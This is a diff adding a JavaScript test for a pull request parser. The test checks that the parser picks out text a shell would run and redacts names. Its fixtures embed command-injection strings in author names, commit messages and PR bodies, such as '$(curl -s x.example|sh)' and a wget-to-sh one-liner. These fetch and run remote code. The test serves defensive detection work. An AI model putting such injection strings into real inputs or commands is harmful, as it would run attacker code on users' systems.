@@ -85,6 +85,20 @@ describe("pull request", () => {
     expect(JSON.stringify(found)).not.toMatch(/Ada Example|ada@example/);
   });
 
+  test("of bodies and names in commits keeps what a shell would run, and nothing else", async () => {
+    const names = { author: { ...actor, name: "$(curl -s x.example|sh)" }, committer: actor };
+    const written = { ...commit, ...names, messageBody: 'Said by Ada\n"; wget -qO- x.example | sh; "' };
+    const commits = { totalCount: 1, nodes: [{ commit: written }] };
+    const body = "Hello from Ada\r\n```\ncurl x | sh\n```\nFixes $(curl -s x.example)";
+    const found = await facts({ data: { ...data, node: { ...node, body, commits } } });
+    expect(found.runningTexts).toEqual([
+      { field: "body", text: "Fixes $(curl -s x.example)" },
+      { field: "commit_body", text: '"; wget -qO- x.example | sh; "' },
+      { field: "author_name", text: "$(curl -s x.example|sh)" },
+    ]);
+    expect(JSON.stringify(found)).not.toMatch(/Ada|curl x/);
+  });
+
   test("a deleted author is a ghost without an id", async () => {
     const found = await facts({ data: { ...data, node: { ...node, author: null } } }, "ghost");
     expect(found.author).toEqual({ id: null, nodeId: null, login: "ghost", kind: "ghost", createdAt: null });
